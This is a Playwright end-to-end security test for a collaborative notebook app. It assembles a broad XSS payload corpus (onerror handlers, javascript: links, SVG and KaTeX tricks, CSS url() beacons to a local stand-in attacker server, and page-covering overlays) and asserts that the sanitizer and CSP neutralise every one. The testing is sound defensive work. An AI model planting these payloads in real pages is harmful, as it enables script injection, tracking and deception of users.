// The XSS corpus: everything another person can put in front of you, rendered in a real Chromium
// for a second user (the admin, a viewer of Mallory's notebook). The payloads come through every
// path: Mallory's shared kernel (text/html, SVG, markdown, LaTeX, ANSI, every HTML-capable widget
// and description), her published output, a markdown cell, and Eve (an editor) with a raw Yjs
// client writing widget models and outputs straight into the shared document with no kernel, and
// that client's awareness state.
// Each payload tries to run script (it would call __xss or alert), to cover the page, or to fetch
// from a second local HTTP server playing the attacker. The test fails if anything runs, anything
// escapes its box, any request leaves for another host, or the sanitizer leaves anything in the
// DOM that only the CSP is stopping. A second test shows the CSP holding when the sanitizer is
// bypassed by hand.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import * as Y from 'yjs';
import { cellOutputs, cellSource, createWidgetModel, outputToYMap, type YCell } from '../../shared/schema.ts';
import { sharedDoc } from '../../shared/layout.ts';
import { apiCall, cspViolations, signIn, watchCspViolations } from '../helpers/browser.ts';
import { connectDoc, type DocClient } from '../helpers/clients.ts';
import { eventually } from '../helpers/eventually.ts';
import { pageSettled, recordElementEvents } from '../helpers/pageSettled.ts';
import { codeCell, markdownCell, notebookOf, useE2E } from './fixture.ts';

const KERNEL_TIMEOUT = 90_000;

const e2e = useE2E();
let attacker: Server;
/** Every request the attacker's server received, in order. */
const attackerHits: string[] = [];
let A = '';

before(async () => {
  attacker = createServer((req, res) => {
    // The favicon is asked for by the marker's own top-level navigation, after the marker.
    if (req.url !== '/favicon.ico') attackerHits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' });
    res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  A = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
after(async () => {
  await new Promise((resolve) => attacker?.close(resolve));
});

// ---- payloads ----------------------------------------------------------------------------------

/** HTML that tries everything at once; `label` names where it was rendered. */
function htmlPayload(label: string): string {
  return [
    `<b class="payload-marker">${label}</b>`,
    `<img src="x" onerror="__xss('${label}:img-onerror')">`,
    `<img src="${A}/${label}/img" alt="tracker">`,
    `<img srcset="${A}/${label}/srcset 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<picture><source srcset="${A}/${label}/picture"><img alt="pic"></picture>`,
    `<div style="background-image:url(${A}/${label}/style-url);width:8px;height:8px"></div>`,
    `<div style="background:image-set('${A}/${label}/image-set' 1x);width:8px;height:8px"></div>`,
    `<table background="${A}/${label}/table-background"><tr><td>cell</td></tr></table>`,
    `<video poster="${A}/${label}/poster" src="${A}/${label}/video"></video>`,
    `<audio src="${A}/${label}/audio" autoplay></audio>`,
    `<input type="image" src="${A}/${label}/input-image" alt="in">`,
    `<link rel="stylesheet" href="${A}/${label}/link-css">`,
    `<style>@import url(${A}/${label}/import.css); @font-face { font-family: x; src: url(${A}/${label}/font) } ` +
      `.cells { background: url(${A}/${label}/style-element) } #topbar { display: none } body { visibility: hidden } ` +
      `.payload-marker { font-family: x }</style>`,
    `<svg width="20" height="20"><image href="${A}/${label}/svg-image" width="10" height="10"/>` +
      `<use href="${A}/${label}/use.svg#x"/><rect width="5" height="5" fill="url(${A}/${label}/fill.svg#p)"/></svg>`,
    `<a href="javascript:__xss('${label}:js-link')" class="clickme">js link</a>`,
    `<a href="${A}/${label}/link" ping="${A}/${label}/ping">plain link</a>`,
    `<details open ontoggle="__xss('${label}:ontoggle')"><summary>d</summary></details>`,
    `<svg><animate onbegin="__xss('${label}:svg-animate')" attributeName="x" dur="1s"/></svg>`,
    `<iframe srcdoc="<script>parent.__xss('${label}:iframe')</script>"></iframe>`,
    `<object data="${A}/${label}/object"></object><embed src="${A}/${label}/embed">`,
    `<form action="${A}/${label}/form"><button class="clickme">send</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${A}/${label}/refresh"><base href="${A}/${label}/base/">`,
    `<script>__xss('${label}:script')</script>`,
    `<div class="cover" style="position:fixed;inset:0;z-index:2147483647;background:rgba(255,0,0,.35)">${label} fixed overlay</div>`,
    `<div class="cover" style="position:absolute;left:-1500px;top:-1500px;width:4000px;height:4000px;z-index:2147483647;background:rgba(0,0,255,.3)"></div>`,
    `<div class="cover" style="margin:-1500px;width:3000px;height:3000px;transform:scale(2);background:rgba(0,255,0,.3)"></div>`,
  ].join('\n');
}

function svgPayload(label: string): string {
  return (
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60">` +
    `<style>#topbar { display: none } rect { fill: url(${A}/${label}/svg-style-fill) }</style>` +
    `<script>__xss('${label}:svg-script')</script>` +
    `<image xlink:href="${A}/${label}/xlink-image" width="10" height="10"/>` +
    `<rect width="10" height="10" onload="__xss('${label}:svg-onload')" filter="url(${A}/${label}/filter.svg#f)"/>` +
    `<a xlink:href="javascript:__xss('${label}:svg-link')"><text class="clickme" y="30">${label}</text></a>` +
    `<foreignObject width="60" height="60"><div xmlns="http://www.w3.org/1999/xhtml" class="cover" style="position:fixed;inset:0;background:rgba(255,0,0,.3)">svg cover</div></foreignObject>` +
    `</svg>`
  );
}

function markdownPayload(label: string): string {
  return [
    `**${label}** <span class="payload-marker">${label}</span>`,
    '',
    `![tracker](${A}/${label}/md-image) [js link](javascript:__xss('${label}:md-link'))`,
    '',
    `Math: $\\href{javascript:__xss('${label}:katex-href')}{click}$ and $\\includegraphics[height=1em]{${A}/${label}/katex-graphics}$ and $\\url{${A}/${label}/katex-url}$`,
    '',
    htmlPayload(`${label}-html`),
  ].join('\n');
}

function latexPayload(label: string): string {
  return `$$\\href{javascript:__xss('${label}:href')}{\\text{${label}}} \\includegraphics{${A}/${label}/graphics} \\url{${A}/${label}/url} \\htmlStyle{position:fixed;inset:0}{x}$$`;
}

/** A description for every control with description_allow_html: markup (also inside math, which
 * @jupyter-widgets/base-manager sets aside before sanitizing), an overlay and a tracker. */
function descriptionPayload(label: string): string {
  return (
    `<b class="payload-marker">${label}</b>$<img src=x onerror="__xss('${label}:math-wrapped')">$` +
    `<img src=x onerror="__xss('${label}:img')"><img src="${A}/${label}/img">` +
    `<span class="cover" style="position:fixed;inset:0;z-index:99999;background:rgba(0,255,0,.3)">${label}</span>`
  );
}

const py = (value: string) => JSON.stringify(value);

function outputsCellSource(): string {
  return [
    'from IPython.display import display',
    `display({'text/html': ${py(htmlPayload('html-output'))}, 'text/plain': 'html'}, raw=True)`,
    `display({'image/svg+xml': ${py(svgPayload('svg-output'))}, 'text/plain': 'svg'}, raw=True)`,
    `display({'text/markdown': ${py(markdownPayload('md-output'))}, 'text/plain': 'md'}, raw=True)`,
    `display({'text/latex': ${py(latexPayload('latex-output'))}, 'text/plain': 'latex'}, raw=True)`,
    // OSC 8 hyperlink to javascript:, and a 24-bit colour (a style attribute from ansi_up).
    `print('\\x1b]8;;javascript:__xss("ansi")\\x07ansi-link\\x1b]8;;\\x07 \\x1b[38;2;200;0;0mansi-marker\\x1b[0m')`,
  ].join('\n');
}

const CONTROLS = [
  'IntSlider()', 'FloatSlider()', 'IntRangeSlider()', 'FloatLogSlider()', 'IntProgress()', 'BoundedIntText()', 'IntText()',
  'FloatText()', 'Text()', 'Textarea()', 'Password()', 'Combobox()', 'Checkbox()', 'ToggleButton()', 'Valid()',
  "Dropdown(options=['a'])", "RadioButtons(options=['a'])", "Select(options=['a'])", "SelectMultiple(options=['a'])",
  "SelectionSlider(options=['a'])", "SelectionRangeSlider(options=['a', 'b'])", "ToggleButtons(options=['a'])",
  'ColorPicker()', 'DatePicker()', 'TagsInput()', 'FileUpload()', 'Play()', 'HTML()', 'HTMLMath()', 'Label()',
];

function widgetsCellSource(): string {
  const description = descriptionPayload('description');
  return [
    'import ipywidgets as w',
    'from IPython.display import display',
    `display(w.HTML(value=${py(htmlPayload('html-widget'))}))`,
    `display(w.HTMLMath(value=${py(htmlPayload('htmlmath-widget') + ' $x^2$ \\(y\\)')}))`,
    `display(w.Label(value=${py(htmlPayload('label-widget'))}))`,
    `controls = [${CONTROLS.map((c) => `w.${c}`).join(', ')}]`,
    'for c in controls:',
    `    c.description = ${py(description)}`,
    '    c.description_allow_html = True',
    `    c.tooltip = ${py(description)}`,
    'display(w.VBox(controls))',
    `display(w.ToggleButtons(options=[${py(description)}], tooltips=[${py(description)}]))`,
    `display(w.Button(description=${py(description)}, tooltip=${py(description)}))`,
    `display(w.Tab(children=[w.Label('a')], titles=[${py(description)}]))`,
    `display(w.Accordion(children=[w.Label('a')], titles=[${py(description)}]))`,
    `display(w.Image(value=${py(`${A}/widget/image-url`)}.encode(), format='url'))`,
    `display(w.Video(value=${py(`${A}/widget/video-url`)}.encode(), format='url'))`,
    `display(w.Audio(value=${py(`${A}/widget/audio-url`)}.encode(), format='url', autoplay=True))`,
    `display(w.HTML('styled', style={'background': ${py(`url(${A}/widget/style-trait)`)}}))`,
    `display(w.HTML('<b class="cover">layout cover</b>', layout=w.Layout(width='3000px', height='3000px', margin='-1500px 0 0 -1500px'), style={'background': 'rgba(255,0,255,.3)'}))`,
    "print('widgets-done')",
  ].join('\n');
}

// ---- the victim's page -------------------------------------------------------------------------

interface Watch {
  /** Every request the page started (a request the CSP refuses is reported too, then failed). */
  requests: string[];
  /** Where the page went other than the app (a <meta refresh> that got through, say). */
  navigations: string[];
  /** Requests that failed because the CSP refused them: they never left the browser. */
  refusedByCsp: string[];
  dialogs: string[];
  /** Labels of payloads that ran, reported at once (kept even if the page navigates away). */
  ran: string[];
}

async function watchVictim(context: BrowserContext, page: Page): Promise<Watch> {
  const watch: Watch = { requests: [], navigations: [], refusedByCsp: [], dialogs: [], ran: [] };
  // Defined before any page code: a payload that runs calls it.
  await context.exposeBinding('__xssReport', (_source, label: unknown) => {
    watch.ran.push(String(label));
  });
  // (A string: the test's transpiler would wrap a named function in a helper the page lacks.)
  await context.addInitScript({
    content: `Object.defineProperty(window, '__xss', { value: function (label) { window.__xssReport(String(label)); } });`,
  });
  context.on('request', (request) => watch.requests.push(request.url()));
  context.on('requestfailed', (request) => {
    // Chromium names the reason `csp` (net::ERR_BLOCKED_BY_CSP in older versions).
    if (/^csp$|BLOCKED_BY_CSP/.test(request.failure()?.errorText ?? '')) watch.refusedByCsp.push(request.url());
  });
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) watch.navigations.push(frame.url());
  });
  page.on('dialog', (dialog) => {
    watch.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // What the page has processed, so that "nothing ran, nothing was fetched" is judged after it.
  await recordElementEvents(context);
  return watch;
}

/** What the sanitizer must have left out of the DOM, whatever the CSP would do with it. */
async function leftovers(page: Page, attackerOrigin: string): Promise<string[]> {
  return page.evaluate((origin) => {
    const found: string[] = [];
    // (No named helper functions in here: the test's transpiler would wrap them in a helper the
    // page does not have.)
    for (const element of document.body.querySelectorAll('*')) {
      const tag = element.tagName.toLowerCase();
      const what = `${tag}${typeof element.className === 'string' && element.className ? `.${element.className}` : ''}`;
      if (['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'style'].includes(tag)) found.push(`<${tag}> element`);
      for (const attribute of element.attributes) {
        const name = attribute.name.toLowerCase();
        const value = attribute.value;
        if (name.startsWith('on')) found.push(`${what} ${name}`);
        if (/^\s*javascript:/i.test(value)) found.push(`${what} ${name}=javascript:`);
        const isLink = (tag === 'a' || tag === 'area') && name === 'href';
        if (!isLink && name !== 'title' && value.includes(origin)) found.push(`${what} ${name} names the attacker`);
        if (['srcset', 'ping', 'background', 'formaction', 'action', 'poster'].includes(name)) found.push(`${what} ${name}`);
      }
      const style = element.getAttribute('style') ?? '';
      if (/url\(|image-set\(/i.test(style)) found.push(`${what} style with url(): ${style}`);
    }
    for (const media of document.querySelectorAll('img[src], video[src], audio[src], source[src]')) {
      const src = media.getAttribute('src') ?? '';
      if (!/^(data:|blob:)/.test(src)) found.push(`${media.tagName.toLowerCase()} src=${src}`);
    }
    for (const sheet of document.adoptedStyleSheets) {
      const text = [...sheet.cssRules].map((rule) => rule.cssText).join('\n');
      if (text.includes(origin) || /url\(/i.test(text)) found.push(`an adopted stylesheet fetches: ${text.slice(0, 200)}`);
    }
    if (getComputedStyle(document.body).visibility !== 'visible') found.push('body hidden by an output');
    const topbar = document.getElementById('topbar');
    if (!topbar || getComputedStyle(topbar).display === 'none') found.push('#topbar hidden by an output');
    return found;
  }, attackerOrigin);
}

/**
 * Hit-tests a grid of points over the viewport at every scroll position: whatever is on top at a
 * point must lie in the box it belongs to (an output, a markdown cell, the presence bar, a cell for
 * remote cursors), so no one's content covers the page.
 */
async function escapes(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const BOXES = '.output, .rendered-markdown, .presence, .cell, .published-entry';
    const problems: string[] = [];
    const height = document.documentElement.scrollHeight;
    for (let top = 0; ; top += Math.floor(innerHeight * 0.7)) {
      window.scrollTo(0, top);
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      for (const fx of [0.01, 0.25, 0.5, 0.75, 0.99]) {
        for (const fy of [0.01, 0.25, 0.5, 0.75, 0.99]) {
          const x = Math.round(fx * (innerWidth - 20));
          const y = Math.round(fy * innerHeight);
          const hit = document.elementFromPoint(x, y);
          for (let node = hit; node; node = node.parentElement) {
            if (!node.matches(BOXES)) continue;
            const box = node.getBoundingClientRect();
            if (x < box.left - 1 || x > box.right + 1 || y < box.top - 1 || y > box.bottom + 1) {
              problems.push(`at scroll ${top}, (${x},${y}) shows ${hit?.tagName.toLowerCase()}.${String(hit?.className)} outside its ${node.className} box`);
              break;
            }
          }
        }
      }
      if (top + innerHeight >= height) break;
    }
    window.scrollTo(0, 0);
    return problems;
  });
}

// ---- the test ----------------------------------------------------------------------------------

const HOSTILE_NAME = `<img src=x onerror="__xss('awareness-name')">eve (teacher)`;
const hostileColor = () => `red; position: fixed; inset: 0; z-index: 2147483647; background: url(${A}/awareness/color)`;

test('nothing another person wrote runs, escapes its box or fetches from elsewhere in a second user’s page', async () => {
  const mallory = await e2e.createUser('mallory');
  const eve = await e2e.createUser('eve');
  const admin = (await apiCall<{ id: string }>(e2e.url, e2e.adminToken, 'GET', '/api/me')).id;
  const shared = { cohort: { scope: 'shared' } };
  const notebook = notebookOf([
    { ...markdownCell(markdownPayload('md-cell')), id: 'md' },
    { ...codeCell(outputsCellSource(), [], shared), id: 'outputs' },
    { ...codeCell(widgetsCellSource(), [], shared), id: 'widgets' },
    { ...codeCell('# outputs written by a raw Yjs client', [], shared), id: 'raw' },
    { ...codeCell(`from IPython.display import display\ndisplay({'text/html': ${py(htmlPayload('published'))}, 'text/plain': 'p'}, raw=True)`), id: 'published' },
  ]);
  const nb = await e2e.createNotebook(mallory.token, 'Homework', notebook);
  await e2e.setMember(mallory.token, nb.id, admin, 'viewer');
  await e2e.setMember(mallory.token, nb.id, eve.id, 'editor');

  // Mallory's kernels write the outputs and widgets; she publishes her own output of the last cell.
  const run = (cellIds: string[]) =>
    apiCall<{ runs: { status: string }[] }>(e2e.url, mallory.token, 'POST', `/api/notebooks/${nb.id}/execute?wait=true`, { cellIds });
  const runs = await run(['outputs', 'widgets', 'published']);
  assert.deepEqual(runs.runs.map((r) => r.status), ['ok', 'ok', 'ok'], JSON.stringify(runs));
  await apiCall(e2e.url, mallory.token, 'POST', `/api/notebooks/${nb.id}/cells/published/publish`);

  // Eve, an editor, with no kernel at all: widget models and outputs written straight into the
  // shared document by a raw Yjs client, and an awareness state of her choosing.
  const raw: DocClient = connectDoc(e2e.syncUrl, nb.id, eve.token);
  await raw.synced();
  const doc = sharedDoc(raw.doc);
  const cellById = (id: string) => doc.cells.toArray().find((cell: YCell) => cell.get('id') === id)!;
  const controls = { model_module: '@jupyter-widgets/controls', model_module_version: '2.0.0' };
  const view = { _view_module: '@jupyter-widgets/controls', _view_module_version: '2.0.0', _model_module: controls.model_module, _model_module_version: '2.0.0' };
  raw.doc.transact(() => {
    doc.widgets.set('raw-html', createWidgetModel({ ...controls, model_name: 'HTMLModel', state: { ...view, _model_name: 'HTMLModel', _view_name: 'HTMLView', value: htmlPayload('raw-html') } }));
    doc.widgets.set('raw-htmlmath', createWidgetModel({ ...controls, model_name: 'HTMLMathModel', state: { ...view, _model_name: 'HTMLMathModel', _view_name: 'HTMLMathView', value: htmlPayload('raw-htmlmath') } }));
    // Class names are shown in the error view ipywidgets puts in place of a widget it cannot load.
    doc.widgets.set('raw-bad-model', createWidgetModel({ ...controls, model_name: `<img src=x onerror="__xss('model-name')">`, state: {} }));
    doc.widgets.set('raw-bad-view', createWidgetModel({ ...controls, model_name: 'HTMLModel', state: { ...view, _model_name: 'HTMLModel', _view_name: `<img src=x onerror="__xss('view-name')">`, value: 'x' } }));
    doc.widgets.set('raw-proto', createWidgetModel({ model_name: 'constructor', model_module: 'constructor', model_module_version: '', state: {} }));
    const outputs = cellOutputs(cellById('raw'))!;
    for (const modelId of ['raw-html', 'raw-htmlmath', 'raw-bad-model', 'raw-bad-view', 'raw-proto']) {
      outputs.push([outputToYMap({ output_type: 'display_data', data: { 'application/vnd.jupyter.widget-view+json': { model_id: modelId, version_major: 2, version_minor: 0 }, 'text/plain': modelId }, metadata: {} })]);
    }
    outputs.push([outputToYMap({ output_type: 'display_data', data: { 'text/html': htmlPayload('raw-output') }, metadata: {} })]);
  });
  const source = cellSource(cellById('outputs'));
  const at = (index: number) => Y.relativePositionToJSON(Y.createRelativePositionFromTypeIndex(source, index));
  raw.provider.awareness.setLocalState({
    user: { id: eve.id, name: HOSTILE_NAME, color: hostileColor(), colorLight: hostileColor() },
    cursor: { anchor: at(0), head: at(20) },
  });

  const victim = await signIn(e2e.browser, e2e.url, e2e.adminToken);
  const watch = await watchVictim(victim.context, victim.page);
  const { page } = victim;
  try {
    // A fresh document, so the init script of watchVictim is in it.
    await page.goto('about:blank');
    await page.goto(`${e2e.url}/#/nb/${nb.id}`);
    await page.waitForSelector('.notebook-page .cells', { state: 'attached' });
    // Everything is on the page before anything is judged.
    // (Attached, not visible: on a page without these defences a payload hides the whole body.)
    const attached = { state: 'attached', timeout: KERNEL_TIMEOUT } as const;
    const marker = (text: string) => page.locator('.payload-marker', { hasText: text }).first().waitFor(attached);
    for (const label of ['md-cell', 'html-output', 'md-output', 'html-widget', 'htmlmath-widget', 'raw-html', 'raw-htmlmath', 'raw-output', 'description']) {
      await marker(label);
    }
    await page.locator('.svg-output svg').first().waitFor(attached);
    await page.locator('.output', { hasText: 'ansi-marker' }).first().waitFor(attached);
    await page.locator('.output .katex').first().waitFor(attached);
    await page.locator('.widget-label', { hasText: 'label-widget' }).first().waitFor(attached);
    await page.waitForFunction(() => document.querySelectorAll('.widget-host img.widget-image, .widget-host video, .widget-host audio').length >= 3, undefined, { timeout: KERNEL_TIMEOUT });
    await page.waitForFunction(() => document.querySelectorAll('.widget-host .jupyter-widgets-error-widget, .widget-host .widget-error').length >= 2, undefined, { timeout: KERNEL_TIMEOUT });
    await page.locator('.presence .person').nth(1).waitFor(attached);
    await page.locator('.cell .cm-ySelectionCaret').first().waitFor(attached);
    await page.locator('details.published-entry').first().waitFor(attached);
    await page.evaluate(() => document.querySelectorAll('details.published-entry').forEach((entry) => entry.setAttribute('open', '')));
    await marker('published');

    // What is left must stay inert when used: links, buttons, error views (ipywidgets shows the
    // error details on click). DOM clicks, so an overlay on top cannot take them.
    // A form's button goes last: where a form survived, its submission navigates the page away.
    await page.evaluate(() => {
      const targets = [...document.querySelectorAll('.cells .clickme, .widget-host .jupyter-widgets-error-widget, .widget-host .widget-error')];
      targets.sort((a, b) => Number(Boolean(a.closest('form'))) - Number(Boolean(b.closest('form'))));
      for (const target of targets) target.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    });
    await pageSettled(page);

    // Everything judged at once, so a failure lists every payload that got through.
    const origin = new URL(e2e.url).origin;
    const findings = {
      ran: watch.ran,
      dialogs: watch.dialogs,
      navigatedAway: watch.navigations.filter((url) => !url.startsWith(`${origin}/`) && url !== 'about:blank'),
      // Not even attempted: a request the CSP would refuse means the sanitizer let its URL through.
      foreignRequests: watch.requests.filter((url) => !url.startsWith(`${origin}/`) && !/^(data|blob):/.test(url)),
      leftInDom: await leftovers(page, A),
      coversPage: await escapes(page),
    };
    assert.deepEqual(findings, { ran: [], dialogs: [], navigatedAway: [], foreignRequests: [], leftInDom: [], coversPage: [] });
    await page.screenshot({ path: 'test-output/xss-corpus.png' });

    // Safe markup still renders as markup: descriptions with description_allow_html (all but the
    // controls ipywidgets shows descriptions of as text, or not at all), HTMLMath's math (KaTeX),
    // and an output's own <style>, which applies inside that output only.
    const rendered = await page.evaluate(() => ({
      controls: [...document.querySelectorAll('.widget-vbox > .lm-Widget')].map((control) => ({
        kind: [...control.classList].filter((name) => name.startsWith('widget-') || name.startsWith('jupyter-widget-')).join(' '),
        markup: Boolean(control.querySelector('b.payload-marker')),
        parsed: control.querySelectorAll('img, .cover').length,
      })),
      htmlMathTypeset: document.querySelectorAll('.widget-htmlmath-content .katex').length,
      ownStyle: getComputedStyle(document.querySelector('.widget-html-content b.payload-marker')!).fontFamily,
      othersStyle: getComputedStyle(document.querySelector('.widget-label b.payload-marker')!).fontFamily,
    }));
    assert.equal(rendered.controls.length, CONTROLS.length);
    const textOnly = rendered.controls.filter((control) => !control.markup).map((control) => control.kind);
    assert.deepEqual(textOnly.sort(), ['jupyter-widget-tagsinput', 'widget-inline-hbox widget-label', 'widget-inline-hbox widget-play', 'widget-toggle-button', 'widget-upload']);
    // (The markup version keeps the <img> without its handler or URL, and the overlay, contained.)
    for (const control of rendered.controls) if (!control.markup) assert.equal(control.parsed, 0, control.kind);
    assert.ok(rendered.htmlMathTypeset >= 2, 'HTMLMath typesets $x^2$ and \\(y\\)');
    assert.equal(rendered.ownStyle, 'x', "an output's own <style> applies inside it");
    assert.notEqual(rendered.othersStyle, 'x', "and nowhere else");

    // The three models the page cannot load (bad model name, bad view name, `constructor`) show
    // the error view, as text.
    assert.deepEqual(
      await page.locator('.widget-host .widget-error').evaluateAll((elements) => elements.map((element) => element.querySelectorAll('*:not(span)').length)),
      [0, 0, 0],
    );

    // Presence: the colour is a colour (the avatar's, from the user id), the name is text
    // (whatever the server lets through).
    const chips = await page.locator('.presence .person').evaluateAll((elements) =>
      elements.map((element) => ({ color: (element as HTMLElement).style.getPropertyValue('--avatar'), children: element.querySelectorAll('img').length })),
    );
    for (const chip of chips) {
      assert.match(chip.color, /^#[0-9a-f]{6}$/i);
      assert.equal(chip.children, 0);
    }
    const caretLabels = await page.locator('.cell .cm-ySelectionInfo').evaluateAll((elements) => elements.map((element) => ({ text: element.textContent, children: element.children.length })));
    assert.ok(caretLabels.length > 0);
    for (const label of caretLabels) {
      assert.equal(label.children, 0);
      assert.ok([HOSTILE_NAME, 'eve'].includes(label.text ?? ''), `caret label ${label.text}`);
    }
    assert.deepEqual(cspViolations, [], 'the sanitizer let something through that the CSP then refused');
    assert.deepEqual(victim.pageErrors.map(String), []);

    // The marker: the attacker's server answers a request the test makes through the page; only it arrives.
    await page.goto(`${A}/marker`);
    assert.deepEqual(attackerHits, ['/marker'], 'the attacker’s server was reached');
  } finally {
    raw.destroy();
    await victim.context.close();
  }
});

test('with the sanitizer bypassed by hand, the CSP still runs nothing and fetches nothing from elsewhere', async () => {
  const context = await e2e.browser.newContext({ viewport: { width: 1200, height: 900 } });
  const violations: string[] = [];
  await watchCspViolations(context, violations);
  const page = await context.newPage();
  const watch = await watchVictim(context, page);
  try {
    await page.goto(`${e2e.url}/login?token=${encodeURIComponent(e2e.adminToken)}`);
    await page.waitForSelector('#whoami .user-name');
    const hitsBefore = attackerHits.length;
    const outcome = await page.evaluate((attackerBase) => {
      const host = document.createElement('div');
      document.getElementById('app')!.append(host);
      // What a missed innerHTML sink in some library would do with someone's markup.
      host.innerHTML =
        `<img class="bypass" src="x" onerror="__xss('bypass:onerror')">` +
        `<img class="bypass" src="${attackerBase}/bypass/img">` +
        `<style class="bypass">body { display: none }</style>` +
        `<a class="bypass" href="javascript:__xss('bypass:link')">link</a>`;
      const script = document.createElement('script');
      script.textContent = "__xss('bypass:inline-script')";
      document.body.append(script);
      // (eval is not tried here: Playwright's evaluate runs outside the page's CSP. The header
      // test asserts script-src has no 'unsafe-eval'.)
      return fetch(`${attackerBase}/bypass/fetch`).then(
        () => 'sent',
        () => 'refused',
      );
    }, A);
    // A DOM click: on a page where the injected <style> applied, the link is not even visible.
    await page.evaluate(() => document.querySelector<HTMLAnchorElement>('a.bypass')?.click());
    await pageSettled(page);
    // The policy's refusals are the markers: each is reported once the page dealt with what it refused.
    const refusedDirectives = () => new Set(violations.map((line) => /\[csp-violation\] (\S+)/.exec(line)?.[1]));
    const REFUSALS = ['script-src-attr', 'script-src-elem', 'style-src-elem', 'img-src', 'connect-src'];
    await eventually(() => REFUSALS.every((directive) => refusedDirectives().has(directive)), { message: `a refusal of each of ${REFUSALS.join(', ')} reported` }).catch(
      () => undefined, // the assertions below say which is missing
    );

    assert.equal(outcome, 'refused', 'fetch to another host');
    assert.deepEqual(watch.ran, []);
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).display), 'block', 'an injected <style> applied');
    const directives = refusedDirectives();
    for (const directive of REFUSALS) {
      assert.ok(directives.has(directive), `no ${directive} violation reported: ${violations.join('\n')}`);
    }
    // The page tried (the markup asked for it); the CSP refused each one before it left.
    const origin = new URL(e2e.url).origin;
    const foreign = watch.requests.filter((url) => !url.startsWith(`${origin}/`) && !/^(data|blob):/.test(url));
    assert.ok(foreign.length > 0, 'the bypass asked for nothing: the test would prove nothing');
    assert.deepEqual(foreign.filter((url) => !watch.refusedByCsp.includes(url)), [], 'a request the CSP did not refuse');
    await page.goto(`${A}/bypass-marker`);
    assert.deepEqual(attackerHits.slice(hitsBefore), ['/bypass-marker']);
  } finally {
    await context.close();
  }
});
